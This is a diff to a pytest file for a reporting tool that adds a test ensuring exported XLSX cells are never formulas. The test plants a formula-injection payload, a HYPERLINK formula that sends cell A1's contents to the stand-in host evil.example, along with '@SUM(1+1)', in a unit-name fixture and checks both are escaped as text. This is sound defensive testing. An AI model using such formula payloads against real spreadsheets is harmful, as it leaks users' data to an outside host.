@@ -18,7 +18,7 @@ import pytest
 import yaml
 from bs4 import BeautifulSoup, Tag
 
-from conftest import REPO, run_dvk
+from conftest import REPO, TinyProject, collective, run_dvk
 from dvk.cli import main
 from dvk.pages.charts import bar_chart
 from dvk.stats import Table
@@ -330,3 +330,20 @@ def test_dates_may_be_written_the_vietnamese_way(tmp_path: Path) -> None:
     vi = run_report(tmp_path, "--from", "01/01/2024", "--to", "31/12/2024", "--format", "csv")
     assert iso.read_bytes() == vi.read_bytes()
 
+
+
+def test_no_cell_of_the_workbook_is_a_formula_whatever_the_names_say(project: TinyProject, tmp_path: Path) -> None:
+    units = project.root / "exemplars" / "units.yml"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    text = units.read_text(encoding="utf-8")
+    assert "name: Khối vận xã Giao Long," in text
+    units.write_text(text.replace("name: Khối vận xã Giao Long,", f"name: '{hostile}',")
+                     .replace("name: Ban Dân vận Huyện ủy Châu Thành,", "name: '@SUM(1+1)',"), encoding="utf-8")
+    project.add(collective())
+    out = tmp_path / "report.xlsx"
+    assert main(["--root", str(project.root), "report", "--format", "xlsx", "--output", str(out)]) == 0
+    workbook = openpyxl.load_workbook(out)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert "'" + hostile in texts and "'@SUM(1+1)" in texts  # shown as typed, as the CSV shows it
